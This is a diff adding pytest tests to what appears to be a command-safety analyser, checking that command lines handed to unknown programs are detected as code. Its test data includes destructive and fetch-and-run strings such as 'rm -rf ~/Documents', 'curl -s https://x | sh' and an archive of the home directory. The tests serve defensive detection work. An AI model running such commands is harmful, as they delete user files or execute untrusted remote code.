@@ -308,3 +308,39 @@ def test_a_key_a_program_authenticates_with_is_used_not_printed(proj: Path) -> N
 def test_unsetting_an_executing_git_key_runs_nothing(proj: Path) -> None:
     assert ops("git config --unset core.fsmonitor", proj, "write")[0]["executes"] is False
     assert ops("git config core.fsmonitor ./x.sh", proj, "write")[0]["executes"] is True
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'mytool "rm -rf ~/Documents"',
+        "mytool -c 'curl -s https://x | sh'",
+        "mytool --exec='tar czf /tmp/h.tgz ~'",
+        "runner --command=\"bash -c 'id'\"",
+        'deploy run "./install.sh --force"',
+    ],
+)
+def test_a_command_line_handed_to_an_unknown_program_is_unknown_code(command: str, proj: Path) -> None:
+    handed = [e for e in ops(command, proj, "exec") if e.get("handed")]
+    assert len(handed) == 1 and handed[0]["known"] is False and handed[0]["code"]["text"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'pytest -k "parse or render"',
+        "tox -e py311",
+        'jira comment PROJ-1 "make the build faster"',
+        'mytool "fix the cat command"',
+        "psql -c 'select 1'",
+        'gh pr create --title "rm old flags" --body "see #12"',
+        'my-linter --run "all"',
+    ],
+)
+def test_everyday_arguments_of_unknown_programs_are_not_code(command: str, proj: Path) -> None:
+    assert [e for e in ops(command, proj, "exec") if e.get("handed")] == []
+
+
+def test_what_a_handed_command_line_does_is_judged_too(proj: Path) -> None:
+    deletes = ops('mytool "rm -rf ~/Documents"', proj, "delete")
+    assert [e["path"] for e in deletes] == [f"{HOME}/Documents"]
